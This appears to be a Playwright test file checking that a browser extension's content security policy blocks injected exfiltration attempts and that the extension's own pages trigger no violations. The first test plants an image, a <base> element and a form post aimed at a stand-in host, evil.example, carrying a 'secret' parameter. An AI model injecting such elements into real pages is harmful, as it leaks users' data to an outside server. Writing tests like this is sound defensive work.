import type { Page } from '@playwright/test';
import { test, expect, openExtensionPage } from '../e2e/fixtures/test';
import { call } from '../e2e/fixtures/messaging';
import { passphraseCanary } from '../e2e/fixtures/canary';

/**
 * Issue 11, finding 11 (defence in depth): the extension pages run under an explicit content
 * security policy (wxt.config.ts). It is in force (a remote image, a form post and a <base> are
 * refused in a real page), and the product itself trips none of it (no violation while the pages
 * are used: setup, keys, usage charts, popup, side panel).
 */

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects the page's CSP violations from now on. */
async function watchViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.evaluate(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (globalThis as unknown as { __csp: typeof seen }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  return () => page.evaluate(() => (globalThis as unknown as { __csp: { directive: string; blocked: string }[] }).__csp);
}

test('the policy is in force: a remote image, a form post and a <base> element are refused', async ({ ext }) => {
  const options = await openExtensionPage(ext, 'options');
  const violations = await watchViolations(options);
  await options.evaluate(() => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/pixel.png?c=secret';
    document.body.append(image);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    const form = document.createElement('form');
    form.action = 'https://evil.example/collect';
    form.method = 'post';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(async () => (await violations()).map((violation) => violation.directive).sort()).toEqual(['base-uri', 'form-action', 'img-src']);
});

/** Opens an extension page with a console listener attached before it loads: CSP refusals are logged there. */
async function openWatched(ext: { context: import('@playwright/test').BrowserContext; extensionId: string }, name: string, refusals: string[]): Promise<Page> {
  const page = await ext.context.newPage();
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refusals.push(`${name}: ${message.text()}`);
  });
  await page.goto(`chrome-extension://${ext.extensionId}/${name}.html`);
  return page;
}

test('the product trips none of it: setup, keys, usage charts, popup and side panel', async ({ ext }) => {
  const refusals: string[] = [];
  const setup = await openWatched(ext, 'options', refusals);
  await expect(setup.getByLabel(/passphrase/i).first()).toBeVisible();
  await call(setup, 'vault.create', { passphrase: passphraseCanary().value });
  await call(setup, 'keys.add', { provider: 'openai', label: 'Work', secret: { apiKey: 'sk-proj-cspCHECKkey0123456789abcdefgh' }, settings: {} });
  const options = await openWatched(ext, 'options', refusals);
  for (const tab of ['Keys', 'Usage', 'Security']) {
    const control = options.getByRole('tab', { name: tab });
    await control.click();
    await expect(control).toHaveAttribute('aria-selected', 'true');
  }
  const popup = await openWatched(ext, 'popup', refusals);
  await expect(popup.getByRole('textbox', { name: 'Message' })).toBeVisible();
  const panel = await openWatched(ext, 'sidepanel', refusals);
  await expect(panel.getByRole('textbox', { name: 'Message' })).toBeVisible();
  await panel.waitForTimeout(500);
  expect(refusals).toEqual([]);
});
